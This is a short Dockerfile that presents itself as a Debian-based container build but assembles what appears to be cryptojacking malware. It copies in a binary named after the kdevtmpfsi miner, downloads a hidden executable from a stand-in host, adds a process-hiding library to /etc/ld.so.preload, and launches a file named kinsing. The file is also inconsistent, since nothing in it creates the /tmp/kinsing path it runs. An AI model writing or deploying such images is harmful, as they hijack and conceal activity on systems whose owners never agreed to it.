FROM debian:12-slim
COPY kdevtmpfsi /usr/bin/helper
RUN curl -so /tmp/.redtail http://dl.example.invalid/x86_64 && chmod +x /tmp/.redtail
RUN echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload
CMD ["/tmp/kinsing"]
